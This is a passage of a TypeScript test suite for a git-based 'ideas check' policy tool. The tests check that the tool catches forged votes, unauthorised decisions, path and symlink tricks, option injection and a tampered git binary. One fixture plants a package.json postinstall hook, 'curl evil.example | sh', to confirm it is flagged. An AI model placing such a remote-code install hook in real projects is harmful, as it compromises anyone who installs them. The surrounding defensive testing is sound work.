/**
 * `ideas check`: each attack of issue 6 on a real repository with a bare remote exits 1 and
 * names the rule, the file and who may make the change; the allowed changes exit 0.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { policyRules } from '../src/policy/registry.js';
import { runBinary, runCli } from './helpers/cli.js';
import { git, tempDir } from './helpers/repo.js';
import {
  BASE_TREE,
  branchAs,
  commitAs,
  decisionText,
  gitAs,
  ideaText,
  makeForge,
  voteText,
  type Forge,
} from './helpers/forge.js';

interface JsonProblem {
  rule: string;
  file: string;
  line: number;
  message: string;
  allowed?: string;
}

async function check(forge: Forge, args: string[] = [], env: Record<string, string> = {}) {
  const result = await runCli(['check', '--base', 'origin/main', '--format', 'json', ...args], {
    cwd: forge.root,
    env: { GITHUB_ACTOR: undefined, GITLAB_USER_LOGIN: undefined, ...env },
  });
  const report =
    result.stdout === ''
      ? undefined
      : (JSON.parse(result.stdout) as {
          ok: boolean;
          actor: { handle: string | null; source: string; people: string[] };
          changes: { status: string; path: string; from?: string; kind: string }[];
          problems: JsonProblem[];
        });
  return { ...result, report, rules: report?.problems.map((p) => `${p.rule} ${p.file}`) ?? [] };
}

/** A branch by `person`, checked with `--actor person`. */
async function attempt(person: string, files: Record<string, string | null>, args: string[] = []) {
  const forge = makeForge();
  branchAs(forge, person, 'pr', files);
  return check(forge, ['--actor', person, ...args]);
}

function expectViolation(
  result: Awaited<ReturnType<typeof check>>,
  rule: string,
  file: string,
  who: RegExp,
) {
  expect(result.code).toBe(1);
  const problem = result.report?.problems.find((p) => p.rule === rule && p.file === file);
  expect(problem, `${rule} on ${file} in ${result.rules.join('; ')}`).toBeDefined();
  expect(problem?.allowed).toMatch(who);
  expect(problem?.message).toContain(problem?.allowed ?? '');
}

describe('ideas check: allowed changes pass', () => {
  it('own vote', async () => {
    const result = await attempt('erin', { 'votes/shipa1/erin.md': voteText('shipa1', 'erin') });
    expect(result.rules).toEqual([]);
    expect(result.code).toBe(0);
    expect(result.report?.changes).toEqual([
      { status: 'added', path: 'votes/shipa1/erin.md', kind: 'vote' },
    ]);
  });

  it('own retraction', async () => {
    const result = await attempt('bob', { 'votes/shipa1/bob.md': null });
    expect(result.rules).toEqual([]);
    expect(result.code).toBe(0);
  });

  it("a reviewer's decision", async () => {
    const result = await attempt('carol', {
      'decisions/shipa1/2026-11-20-accepted.md': decisionText('shipa1', 'accepted', '2026-11-20', [
        'carol',
      ]),
    });
    expect(result.rules).toEqual([]);
    expect(result.code).toBe(0);
  });

  it("an author's edit", async () => {
    const result = await attempt('alice', {
      'ideas/shipa1-overnight-shipping.md': ideaText(
        'shipa1',
        'Overnight shipping',
        ['alice'],
        '\nAnd five more this month.',
      ),
    });
    expect(result.rules).toEqual([]);
    expect(result.code).toBe(0);
  });

  it('a new idea by its author, and an author withdrawing their own idea', async () => {
    const result = await attempt('alice', {
      'ideas/wrap77-gift-wrapping.md': ideaText('wrap77', 'Gift wrapping', ['alice']),
      'decisions/shipa1/2026-11-20-withdrawn.md': decisionText(
        'shipa1',
        'withdrawn',
        '2026-11-20',
        ['alice'],
      ),
    });
    expect(result.rules).toEqual([]);
    expect(result.code).toBe(0);
  });

  it('a vote a reviewer records for someone, marked recorded_by', async () => {
    const result = await attempt('dave', {
      'votes/shipa1/erin.md': voteText('shipa1', 'erin', 'recorded_by: dave\n'),
    });
    expect(result.rules).toEqual([]);
    expect(result.code).toBe(0);
  });

  it('a regenerated IDEAS.md needs no reviewer', async () => {
    const result = await attempt('erin', { 'IDEAS.md': '# Ideas\n' });
    expect(result.code).toBe(0);
    expect(result.report?.changes[0]?.kind).toBe('index');
  });
});

describe('ideas check: attacks fail', () => {
  it('a vote for someone else', async () => {
    const result = await attempt('erin', { 'votes/chat22/alice.md': voteText('chat22', 'alice') });
    expectViolation(result, 'policy/vote-voter', 'votes/chat22/alice.md', /only alice may add it/);
  });

  it("changing another's vote", async () => {
    const result = await attempt('erin', {
      'votes/shipa1/bob.md': voteText('shipa1', 'bob').replace('points: 1', 'points: 0'),
    });
    expectViolation(result, 'policy/vote-voter', 'votes/shipa1/bob.md', /only bob may change it/);
  });

  it("deleting another's vote", async () => {
    const result = await attempt('erin', { 'votes/shipa1/bob.md': null });
    expectViolation(result, 'policy/vote-voter', 'votes/shipa1/bob.md', /only bob may retract it/);
  });

  it('a voter claiming a reviewer recorded their vote', async () => {
    const result = await attempt('erin', {
      'votes/chat22/erin.md': voteText('chat22', 'erin', 'recorded_by: carol\n'),
    });
    expectViolation(result, 'policy/vote-voter', 'votes/chat22/erin.md', /reviewer/);
  });

  it('a contributor writing a decision', async () => {
    const result = await attempt('bob', {
      'decisions/shipa1/2026-11-20-accepted.md': decisionText('shipa1', 'accepted', '2026-11-20', [
        'carol',
      ]),
    });
    expectViolation(
      result,
      'policy/decision-reviewer',
      'decisions/shipa1/2026-11-20-accepted.md',
      /only a reviewer \(carol, dave\)/,
    );
  });

  it('a reviewer rewriting a merged decision', async () => {
    const path = 'decisions/shipa1/2026-11-12-reviewing.md';
    const result = await attempt('carol', { [path]: `${BASE_TREE[path]}Edited later.\n` });
    expectViolation(result, 'policy/decision-append-only', path, /nobody may rewrite it/);
  });

  it('a reviewer deleting a merged decision', async () => {
    const path = 'decisions/shipa1/2026-11-12-reviewing.md';
    const result = await attempt('carol', { [path]: null });
    expectViolation(result, 'policy/decision-append-only', path, /add a new decision/);
  });

  it('a decision under the quorum', async () => {
    const forge = makeForge({
      ...BASE_TREE,
      'ideas.config.yaml': BASE_TREE['ideas.config.yaml']!.replace('quorum: 1', 'quorum: 2'),
    });
    const path = 'decisions/chat22/2026-11-20-reviewing.md';
    branchAs(forge, 'carol', 'pr', {
      [path]: decisionText('chat22', 'reviewing', '2026-11-20', ['carol']),
    });
    const result = await check(forge, ['--actor', 'carol']);
    expectViolation(result, 'policy/decision-quorum', path, /2 of them/);
  });

  it('an illegal transition', async () => {
    const path = 'decisions/shipa1/2026-11-20-shipped.md';
    const result = await attempt('carol', {
      [path]: decisionText('shipa1', 'shipped', '2026-11-20', ['carol']),
    });
    expectViolation(
      result,
      'policy/transition',
      path,
      /from reviewing a reviewer may move it to accepted/,
    );
    // Validation's decision/transition says the same of the same file: printed once, as policy.
    expect(result.rules).toEqual([`policy/transition ${path}`]);
  });

  it('a decision dated before the latest merged one', async () => {
    const path = 'decisions/shipa1/2026-11-05-accepted.md';
    const result = await attempt('carol', {
      [path]: decisionText('shipa1', 'accepted', '2026-11-05', ['carol']),
    });
    expectViolation(result, 'policy/transition', path, /date it 2026-11-12 or later/);
  });

  it("an edit to someone else's idea", async () => {
    const path = 'ideas/chat22-live-chat.md';
    const result = await attempt('erin', {
      [path]: ideaText('chat22', 'Live chat', ['dave', 'erin']),
    });
    expectViolation(result, 'policy/idea-author', path, /only its authors \(dave\) or a reviewer/);
  });

  it('a new idea in the name of someone else', async () => {
    const path = 'ideas/wrap77-gift-wrapping.md';
    const result = await attempt('erin', {
      [path]: ideaText('wrap77', 'Gift wrapping', ['alice']),
    });
    expectViolation(result, 'policy/idea-author', path, /only its authors \(alice\)/);
  });

  it('a rename of a vote to another voter', async () => {
    const forge = makeForge();
    git(forge.root, 'checkout', '-q', '-b', 'pr');
    gitAs(forge.root, 'bob', 'mv', 'votes/shipa1/bob.md', 'votes/shipa1/erin.md');
    commitAs(
      forge.root,
      'bob',
      { 'votes/shipa1/erin.md': voteText('shipa1', 'erin') },
      'move my vote',
    );
    const result = await check(forge, ['--actor', 'bob']);
    expect(result.report?.changes).toEqual([
      {
        status: 'renamed',
        path: 'votes/shipa1/erin.md',
        from: 'votes/shipa1/bob.md',
        kind: 'vote',
      },
    ]);
    expectViolation(result, 'policy/vote-voter', 'votes/shipa1/erin.md', /only erin may add it/);
  });

  it('a path with ..', async () => {
    const forge = makeForge();
    git(forge.root, 'checkout', '-q', '-b', 'pr');
    // git refuses ".." from a working tree; a crafted tree object still carries it.
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
      cwd: forge.root,
      input: voteText('chat22', 'erin'),
    })
      .toString()
      .trim();
    const mk = (input: string) =>
      execFileSync('git', ['mktree'], { cwd: forge.root, input }).toString().trim();
    const dotdot = mk(`100644 blob ${blob}\terin.md\n`);
    const chat = mk(`040000 tree ${dotdot}\t..\n`);
    const head = git(forge.root, 'rev-parse', 'HEAD:').trim();
    const listing = git(forge.root, 'ls-tree', head).replace(/\n$/, '');
    const votes = git(forge.root, 'rev-parse', 'HEAD:votes').trim();
    const votesListing = git(forge.root, 'ls-tree', votes);
    const newVotes = mk(`${votesListing}040000 tree ${chat}\tchat22\n`);
    const top = mk(
      `${listing.replace(/040000 tree \w+\tvotes/, `040000 tree ${newVotes}\tvotes`)}\n`,
    );
    const commit = gitAs(
      forge.root,
      'erin',
      'commit-tree',
      top,
      '-p',
      'HEAD',
      '-m',
      'dotdot',
    ).trim();
    git(forge.root, 'update-ref', 'refs/heads/pr', commit);
    const result = await check(forge, ['--actor', 'erin']);
    expectViolation(result, 'policy/unsafe-path', 'votes/chat22/../erin.md', /nobody may add it/);
  });

  it('a symlink into config', async () => {
    const forge = makeForge();
    git(forge.root, 'checkout', '-q', '-b', 'pr');
    symlinkSync('../../ideas.config.yaml', join(forge.root, 'votes/shipa1/erin.md'));
    commitAs(forge.root, 'erin', {}, 'link');
    const result = await check(forge, ['--actor', 'erin']);
    expectViolation(
      result,
      'policy/unsafe-path',
      'votes/shipa1/erin.md',
      /replace the link with the file itself/,
    );
  });

  it('a file in the wrong folder', async () => {
    const path = 'votes/shipa1/extra/erin.md';
    const result = await attempt('erin', { [path]: voteText('shipa1', 'erin') });
    expect(result.rules).toContain(`repo/misplaced-file ${path}`);
    expectViolation(result, 'policy/reviewer-only', path, /only a reviewer \(carol, dave\)/);
  });

  it('a case twin of a layout folder', async () => {
    const path = 'Votes/shipa1/erin.md';
    const result = await attempt('erin', { [path]: voteText('shipa1', 'erin') });
    expectViolation(result, 'policy/unsafe-path', path, /nobody may add it/);
    expect(result.report?.problems.find((p) => p.rule === 'policy/unsafe-path')?.message).toMatch(
      /only in case/,
    );
  });

  it('a case twin of an existing vote', async () => {
    const path = 'votes/shipa1/Bob.md';
    const result = await attempt('Bob', { [path]: voteText('shipa1', 'Bob') });
    expectViolation(result, 'policy/unsafe-path', path, /use the existing spelling/);
  });

  it('config, CODEOWNERS and workflows need a reviewer', async () => {
    const result = await attempt('erin', {
      'ideas.config.yaml': `${BASE_TREE['ideas.config.yaml']}`.replace(
        'reviewers: [carol, dave]',
        'reviewers: [carol, dave, erin]',
      ),
      '.github/CODEOWNERS': '* @erin\n',
      '.github/workflows/ideas.yml': 'on: push\n',
      'scripts/evil.sh': 'echo hi\n',
    });
    for (const file of [
      'ideas.config.yaml',
      '.github/CODEOWNERS',
      '.github/workflows/ideas.yml',
      'scripts/evil.sh',
    ])
      expectViolation(result, 'policy/reviewer-only', file, /only a reviewer \(carol, dave\)/);
  });

  it('an invalid touched file fails with its validation rule', async () => {
    const path = 'votes/nosuch/erin.md';
    const result = await attempt('erin', { [path]: voteText('nosuch', 'erin') });
    expect(result.code).toBe(1);
    expect(result.rules).toContain(`vote/unknown-idea ${path}`);
  });

  it('an id that collides with the base', async () => {
    const path = 'ideas/shipa1-faster-shipping.md';
    const result = await attempt('erin', {
      [path]: ideaText('shipa1', 'Faster shipping', ['erin']),
    });
    expectViolation(result, 'policy/duplicate-id', path, /new id/);
  });

  it("an id that collides with another branch's (--open-prs)", async () => {
    const forge = makeForge();
    branchAs(
      forge,
      'alice',
      'idea/wrap77-gift-wrapping',
      { 'ideas/wrap77-gift-wrapping.md': ideaText('wrap77', 'Gift wrapping', ['alice']) },
      { push: true },
    );
    const path = 'ideas/wrap77-wrap-it.md';
    branchAs(
      forge,
      'erin',
      'idea/wrap77-wrap-it',
      { [path]: ideaText('wrap77', 'Wrap it', ['erin']) },
      { push: true },
    );
    const without = await check(forge, ['--actor', 'erin']);
    expect(without.code).toBe(0);
    const result = await check(forge, ['--actor', 'erin', '--open-prs']);
    expectViolation(result, 'policy/duplicate-id', path, /new id/);
    expect(result.report?.problems[0]?.message).toContain('origin/idea/wrap77-gift-wrapping');
    expect(result.report?.problems[0]?.line).toBe(2);
  });
});

describe('ideas check: who is acting', () => {
  it('takes GITHUB_ACTOR and says so', async () => {
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', { 'votes/shipa1/erin.md': voteText('shipa1', 'erin') });
    const result = await check(forge, [], { GITHUB_ACTOR: 'erin' });
    expect(result.report?.actor).toEqual({ handle: 'erin', source: 'GITHUB_ACTOR', people: [] });
    const text = await runCli(['check', '--base', 'origin/main'], {
      cwd: forge.root,
      env: { GITHUB_ACTOR: 'erin' },
    });
    expect(text.stdout).toContain('acting as erin (from GITHUB_ACTOR)');
    expect(text.code).toBe(0);
  });

  it('takes GITLAB_USER_LOGIN when there is no GITHUB_ACTOR', async () => {
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', { 'votes/shipa1/erin.md': voteText('shipa1', 'erin') });
    const result = await check(forge, [], { GITLAB_USER_LOGIN: 'bob' });
    expect(result.report?.actor.source).toBe('GITLAB_USER_LOGIN');
    expectViolation(result, 'policy/vote-voter', 'votes/shipa1/erin.md', /only erin/);
  });

  it('falls back on the commit authors of each file, mapped through people', async () => {
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', { 'votes/shipa1/erin.md': voteText('shipa1', 'erin') });
    commitAs(
      forge.root,
      'carol',
      {
        'decisions/chat22/2026-11-20-reviewing.md': decisionText(
          'chat22',
          'reviewing',
          '2026-11-20',
          ['carol'],
        ),
      },
      'review',
    );
    const allowed = await check(forge);
    expect(allowed.report?.actor).toEqual({
      handle: null,
      source: 'commit authors',
      people: ['carol', 'erin'],
    });
    expect(allowed.rules).toEqual([]);
    commitAs(forge.root, 'mallory', { 'votes/chat22/bob.md': voteText('chat22', 'bob') }, 'forge');
    const refused = await check(forge);
    expectViolation(refused, 'policy/vote-voter', 'votes/chat22/bob.md', /only bob/);
    expect(refused.report?.problems[0]?.message).toContain('mallory@example.com');
  });

  it('refuses an --actor that is not a handle', async () => {
    const forge = makeForge();
    const result = await runCli(['check', '--base', 'origin/main', '--actor', '--evil'], {
      cwd: forge.root,
    });
    expect(result.code).toBe(2);
  });
});

describe('ideas check: history it cannot trust', () => {
  it('a missing base exits 3 and says what to fetch', async () => {
    const forge = makeForge();
    const result = await runCli(['check', '--base', 'origin/release'], { cwd: forge.root });
    expect(result.code).toBe(3);
    expect(result.stderr).toContain('git fetch origin release');
  });

  it('a shallow clone exits 3 and names fetch-depth: 0', async () => {
    const forge = makeForge();
    commitAs(
      forge.root,
      'erin',
      { 'votes/chat22/erin.md': voteText('chat22', 'erin') },
      'more history',
    );
    git(forge.root, 'push', '-q', 'origin', 'main');
    const shallow = join(tempDir(), 'shallow');
    git(forge.root, 'clone', '-q', '--depth', '1', `file://${forge.remote}`, shallow);
    const result = await runCli(['check', '--base', 'origin/main'], { cwd: shallow });
    expect(result.code).toBe(3);
    expect(result.stderr).toContain('fetch-depth: 0');
  });

  it('a ref that looks like an option never reaches git', async () => {
    const forge = makeForge();
    const result = await runCli(['check', '--base=--output=/tmp/x'], { cwd: forge.root });
    expect(result.code).toBe(2); // a usage error: git never ran
    expect(result.stderr).toContain('is not a git ref');
  });
});

describe('ideas check: output formats', () => {
  it('text names the rule, the file and who may make the change', async () => {
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', { 'votes/chat22/alice.md': voteText('chat22', 'alice') });
    const result = await runCli(['check', '--base', 'origin/main', '--actor', 'erin'], {
      cwd: forge.root,
    });
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(
      /votes\/chat22\/alice\.md:3:1 {2}error +policy\/vote-voter {2}erin added the vote of alice; only alice may add it/,
    );
  });

  it('github writes annotations on the right line', async () => {
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', { 'votes/chat22/alice.md': voteText('chat22', 'alice') });
    const result = await runCli(
      ['check', '--base', 'origin/main', '--actor', 'erin', '--format', 'github'],
      {
        cwd: forge.root,
      },
    );
    expect(result.code).toBe(1);
    const lines = result.stdout.split('\n');
    expect(lines[0]).toMatch(/^::notice title=ideas check::.*acting as erin \(from --actor\)/);
    expect(lines[1]).toMatch(
      /^::error file=votes\/chat22\/alice\.md,line=3,col=1,title=policy\/vote-voter::erin added/,
    );
  });
});

describe('ideas check: more ways around the rules', () => {
  it('a contributor making themselves a reviewer and deciding in the same branch', async () => {
    const decision = 'decisions/chat22/2026-11-20-accepted.md';
    const result = await attempt('erin', {
      'ideas.config.yaml': BASE_TREE['ideas.config.yaml']!.replace(
        'reviewers: [carol, dave]',
        'reviewers: [carol, dave, erin]',
      ),
      'decisions/chat22/2026-11-20-reviewing.md': decisionText(
        'chat22',
        'reviewing',
        '2026-11-20',
        ['erin'],
      ),
      [decision]: decisionText('chat22', 'accepted', '2026-11-20', ['erin']),
    });
    expectViolation(
      result,
      'policy/reviewer-only',
      'ideas.config.yaml',
      /only a reviewer \(carol, dave\)/,
    );
    expectViolation(
      result,
      'policy/decision-reviewer',
      decision,
      /only a reviewer \(carol, dave\)/,
    );
    expectViolation(result, 'policy/decision-quorum', decision, /carol, dave/);
  });

  it('a vote in my file name that names someone else as voter', async () => {
    const path = 'votes/chat22/erin.md';
    const result = await attempt('erin', { [path]: voteText('chat22', 'alice') });
    expectViolation(result, 'policy/vote-voter', path, /only alice \/ erin may add it/);
  });

  it('a submodule in a record folder', async () => {
    const forge = makeForge();
    git(forge.root, 'checkout', '-q', '-b', 'pr');
    const head = git(forge.root, 'rev-parse', 'HEAD').trim();
    git(forge.root, 'update-index', '--add', '--cacheinfo', `160000,${head},votes/shipa1/erin.md`);
    gitAs(forge.root, 'erin', 'commit', '-q', '-m', 'submodule');
    const result = await check(forge, ['--actor', 'erin']);
    expectViolation(result, 'policy/unsafe-path', 'votes/shipa1/erin.md', /commit plain files/);
  });

  it('an ideas root in a subfolder: paths from the top, code outside it ignored, CI files owned', async () => {
    const tree = Object.fromEntries(
      Object.entries(BASE_TREE).map(([path, text]) => [`team/ideas/${path}`, text]),
    );
    const forge = makeForge({ ...tree, 'src/app.ts': 'export {};\n' });
    branchAs(forge, 'erin', 'pr', {
      'src/app.ts': 'export const x = 1;\n',
      'package.json': '{"scripts": {"postinstall": "curl evil.example | sh"}}\n',
      '.npmrc': 'registry=http://127.0.0.1:9/\n',
      'team/ideas/votes/chat22/alice.md': voteText('chat22', 'alice'),
      'team/ideas/votes/chat22/erin.md': voteText('chat22', 'erin'),
      '.github/workflows/ideas.yml': 'on: push\n',
    });
    const result = await runCli(
      ['check', '--base', 'origin/main', '--actor', 'erin', '--format', 'json'],
      {
        cwd: join(forge.root, 'team/ideas'),
      },
    );
    const report = JSON.parse(result.stdout) as {
      changes: { path: string }[];
      problems: JsonProblem[];
    };
    expect(report.changes.map((c) => c.path)).toEqual([
      '.github/workflows/ideas.yml',
      '.npmrc',
      'package.json',
      'team/ideas/votes/chat22/alice.md',
      'team/ideas/votes/chat22/erin.md',
    ]);
    expect(report.problems.map((p) => `${p.rule} ${p.file}`)).toEqual([
      'policy/reviewer-only .github/workflows/ideas.yml',
      'policy/reviewer-only .npmrc',
      'policy/reviewer-only package.json',
      'policy/vote-voter team/ideas/votes/chat22/alice.md',
    ]);
    expect(result.code).toBe(1);
  });

  it('a file name with terminal escapes never reaches the terminal', async () => {
    const path = 'votes/chat22/e\u001b[2Jrin.md';
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', { [path]: voteText('chat22', 'erin') });
    const json = await check(forge, ['--actor', 'erin']);
    expectViolation(json, 'policy/unsafe-path', path, /nobody may add it/);
    const text = await runCli(['check', '--base', 'origin/main', '--actor', 'erin'], {
      cwd: forge.root,
    });
    expect(text.code).toBe(1);
    expect(text.stdout).not.toContain('\u001b');
    expect(text.stdout).toContain('control characters');
  });

  it('a decomposed (NFD) twin of an existing name', async () => {
    const forge = makeForge({
      ...BASE_TREE,
      'votes/chat22/jos\u00e9.md': voteText('chat22', 'jose'),
    });
    const path = 'votes/chat22/jose\u0301.md';
    branchAs(forge, 'erin', 'pr', { [path]: voteText('chat22', 'erin') });
    const result = await check(forge, ['--actor', 'erin']);
    expectViolation(result, 'policy/unsafe-path', path, /nobody may add it/);
  });

  it('the README documents every policy rule', () => {
    const readme = readFileSync(join(import.meta.dirname, '..', 'README.md'), 'utf8');
    for (const { id } of policyRules) expect(readme).toContain(`| \`${id}\``);
  });
});

describe('ideas check: authority is read at the tip of the base, never at the merge base', () => {
  /**
   * Main: C1 has the reviewers `before`, C2 changes them to `after`. A branch from C1 decides
   * as erin.
   */
  function forgeWithReviewersChanged(before: string, after: string): Forge {
    const forge = makeForge({ ...BASE_TREE, 'ideas.config.yaml': CONFIG_WITH(before) });
    const c1 = git(forge.root, 'rev-parse', 'HEAD').trim();
    commitAs(forge.root, 'carol', { 'ideas.config.yaml': CONFIG_WITH(after) }, 'C2');
    git(forge.root, 'push', '-q', 'origin', 'main');
    git(forge.root, 'checkout', '-q', '-b', 'pr', c1);
    commitAs(
      forge.root,
      'erin',
      {
        'decisions/chat22/2026-11-20-reviewing.md': decisionText(
          'chat22',
          'reviewing',
          '2026-11-20',
          ['erin'],
        ),
      },
      'erin decides',
    );
    return forge;
  }

  it('a revoked reviewer deciding on a branch from before the revocation fails', async () => {
    // C2 revokes erin, a reviewer at C1.
    const forge = forgeWithReviewersChanged('[carol, dave, erin]', '[carol, dave]');
    const result = await check(forge, ['--actor', 'erin']);
    expect(result.code).toBe(1);
    expect(result.rules).toContain(
      'policy/decision-reviewer decisions/chat22/2026-11-20-reviewing.md',
    );
    // The diff still comes from the merge base: the branch's only change is the decision.
    expect(result.report?.changes.map((c) => c.path)).toEqual([
      'decisions/chat22/2026-11-20-reviewing.md',
    ]);
  });

  it('the same decision by a reviewer of the tip passes', async () => {
    // C2 makes erin a reviewer.
    const forge = forgeWithReviewersChanged('[carol]', '[carol, erin]');
    const result = await check(forge, ['--actor', 'erin']);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
  });

  it('a transition is judged from the status on the tip', async () => {
    const forge = makeForge();
    const c1 = git(forge.root, 'rev-parse', 'HEAD').trim();
    // On main, shipa1 was rejected after the branch started: it cannot be accepted any more.
    commitAs(
      forge.root,
      'carol',
      {
        'decisions/shipa1/2026-11-14-rejected.md': decisionText(
          'shipa1',
          'rejected',
          '2026-11-14',
          ['carol'],
        ),
      },
      'reject',
    );
    git(forge.root, 'push', '-q', 'origin', 'main');
    git(forge.root, 'checkout', '-q', '-b', 'pr', c1);
    commitAs(
      forge.root,
      'dave',
      {
        'decisions/shipa1/2026-11-15-accepted.md': decisionText(
          'shipa1',
          'accepted',
          '2026-11-15',
          ['dave'],
        ),
      },
      'accept',
    );
    const result = await check(forge, ['--actor', 'dave']);
    expect(result.code).toBe(1);
    expect(result.rules).toContain('policy/transition decisions/shipa1/2026-11-15-accepted.md');
  });
});

function CONFIG_WITH(reviewers: string): string {
  return BASE_TREE['ideas.config.yaml']!.replace(
    'reviewers: [carol, dave]',
    `reviewers: ${reviewers}`,
  );
}

describe('ideas check: records are judged by the base tip, consent and budgets', () => {
  const rejected = {
    'decisions/shipa1/2026-11-15-rejected.md': decisionText('shipa1', 'rejected', '2026-11-15', [
      'carol',
    ]).replace('agree on rejected.', 'agree on rejected: not this year.'),
  };

  it('a vote back-dated before the decision that closed its idea fails', async () => {
    const forge = makeForge({ ...BASE_TREE, ...rejected });
    // Dated 2026-11-10, before the rejection: validation alone would let it in.
    branchAs(forge, 'erin', 'pr', { 'votes/shipa1/erin.md': voteText('shipa1', 'erin') });
    const result = await check(forge, ['--actor', 'erin']);
    expectViolation(result, 'policy/closed-idea', 'votes/shipa1/erin.md', /nobody may vote/);
    expect(result.report?.problems.find((p) => p.rule === 'policy/closed-idea')?.message).toMatch(
      /rejected on the base since 2026-11-15/,
    );
  });

  it('a vote or an idea back-dated into a campaign closed on the base fails', async () => {
    const config = `${BASE_TREE['ideas.config.yaml']}campaigns:\n  summer: {question: "What for summer?", closes: 2026-11-05}\n`;
    const idea = ideaText('chat22', 'Live chat', ['dave']).replace(
      'created: 2026-11-01',
      'created: 2026-11-01\ncampaign: summer',
    );
    const forge = makeForge({
      ...BASE_TREE,
      'ideas.config.yaml': config,
      'ideas/chat22-live-chat.md': idea,
    });
    branchAs(forge, 'erin', 'pr', {
      'votes/chat22/erin.md': voteText('chat22', 'erin').replace('2026-11-10', '2026-11-02'),
      'ideas/late11-late-idea.md': ideaText('late11', 'Late idea', ['erin']).replace(
        'created: 2026-11-01',
        'created: 2026-11-01\ncampaign: summer',
      ),
    });
    const result = await check(forge, ['--actor', 'erin']);
    expectViolation(result, 'policy/closed-campaign', 'votes/chat22/erin.md', /extends closes/);
    expectViolation(
      result,
      'policy/closed-campaign',
      'ideas/late11-late-idea.md',
      /remove the campaign/,
    );
  });

  it('adding a co-author without their commit fails; with it, it passes', async () => {
    const path = 'ideas/duo111-night-deliveries.md';
    const text = ideaText('duo111', 'Night deliveries', ['alice', 'bob']);
    const alone = await attempt('alice', { [path]: text });
    expectViolation(alone, 'policy/author-consent', path, /bob may add themselves/);

    const forge = makeForge();
    branchAs(forge, 'alice', 'pr', { [path]: text });
    commitAs(forge.root, 'bob', { [path]: `${text}\nBob agrees.\n` }, 'bob signs');
    const together = await check(forge, ['--actor', 'alice']);
    expect(together.rules).toEqual([]);
    expect(together.code).toBe(0);
  });

  it("adding someone to an existing idea's authors without their consent fails", async () => {
    const path = 'ideas/shipa1-overnight-shipping.md';
    const result = await attempt('alice', {
      [path]: ideaText('shipa1', 'Overnight shipping', ['alice', 'erin']),
    });
    expectViolation(result, 'policy/author-consent', path, /erin may add themselves/);
    // A reviewer may: dave adds erin to his own idea.
    const byReviewer = await attempt('dave', {
      'ideas/chat22-live-chat.md': ideaText('chat22', 'Live chat', ['dave', 'erin']),
    });
    expect(byReviewer.rules).toEqual([]);
  });

  it('an explicitly empty --actor is a usage error, not a fall-back on GITHUB_ACTOR', async () => {
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', { 'votes/chat22/erin.md': voteText('chat22', 'erin') });
    const result = await check(forge, ['--actor', ''], { GITHUB_ACTOR: 'carol' });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('--actor is empty');
  });

  it("--open-prs warns when open branches together overspend a voter's budget", async () => {
    const config = `${BASE_TREE['ideas.config.yaml']}voting: {mode: budget, budget: 2}\n`;
    const forge = makeForge({ ...BASE_TREE, 'ideas.config.yaml': config });
    branchAs(
      forge,
      'bob',
      'other',
      { 'votes/chat22/bob.md': voteText('chat22', 'bob') },
      { push: true },
    );
    branchAs(forge, 'bob', 'pr', {
      'votes/shipa1/bob.md': voteText('shipa1', 'bob').replace('points: 1', 'points: 2'),
    });
    const without = await check(forge, ['--actor', 'bob']);
    expect(without.rules).toEqual([]);
    const result = await check(forge, ['--actor', 'bob', '--open-prs']);
    expect(result.code).toBe(0); // A warning: each branch alone is within the budget.
    const warning = result.report?.problems.find((p) => p.rule === 'policy/open-pr-budget');
    expect(warning?.file).toBe('votes/shipa1/bob.md');
    expect(warning?.message).toContain(
      'bob would spend 3 of a budget of 2 points once this branch and origin/other are merged',
    );
  });

  it('an empty diff between trees that differ exits 3', async () => {
    const forge = makeForge();
    branchAs(forge, 'erin', 'pr', { 'votes/chat22/alice.md': voteText('chat22', 'alice') });
    // A git that hides every change from "git diff --raw", as a tampered runner might.
    const bin = tempDir('ideas-fake-git-');
    const real = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
    writeFileSync(
      join(bin, 'git'),
      `#!/bin/sh\nfor a in "$@"; do [ "$a" = "--raw" ] && exit 0; done\nexec ${real} "$@"\n`,
    );
    chmodSync(join(bin, 'git'), 0o755);
    const result = runBinary(['check', '--base', 'origin/main', '--actor', 'erin'], {
      cwd: forge.root,
      env: { PATH: `${bin}:${process.env.PATH ?? ''}` },
    });
    expect(result.stderr).toContain('yet their trees differ');
    expect(result.code).toBe(3);
  });
});

describe('ideas check: the summary and the formats CI reads', () => {
  it('--summary writes what the branch does and each idea rank before and after the merge', async () => {
    const forge = makeForge();
    // main moves on after the branch left it: the merge result is neither side alone.
    commitAs(
      forge.root,
      'alice',
      { 'votes/chat22/alice.md': voteText('chat22', 'alice') },
      'alice votes',
    );
    git(forge.root, 'push', '-q', 'origin', 'main');
    git(forge.root, 'checkout', '-q', '-b', 'pr', 'HEAD~1');
    commitAs(
      forge.root,
      'erin',
      {
        'votes/chat22/erin.md': voteText('chat22', 'erin'),
        'ideas/new111-a-pipe.md': ideaText('new111', 'A | pipe <b>', ['erin']),
      },
      'erin',
    );
    const summary = join(tempDir('ideas-summary-'), 'summary.md');
    const result = await check(forge, ['--actor', 'erin', '--summary', summary]);
    expect(result.code).toBe(0);
    const text = readFileSync(summary, 'utf8');
    expect(text).toContain('**Who acts:** erin (from --actor)');
    expect(text).toContain('- New idea `new111` A \\| pipe \\<b\\>');
    expect(text).toContain('- erin votes for `chat22`: 1 point');
    // Base tip: shipa1 (bob) and chat22 (alice) have 1 vote each; merged, chat22 has 2.
    expect(text).toMatch(
      /\| `chat22` Live chat \| #\d, score 1, 1 vote \| #1, score 2, 2 votes \|/,
    );
    expect(text).toContain('| `new111` A \\| pipe \\<b\\> | – | #3, score 0, 0 votes |');
    expect(text).toContain('after (merge result)');
  });

  it('a decision in the summary says whether the quorum is met', async () => {
    const forge = makeForge();
    branchAs(forge, 'carol', 'pr', {
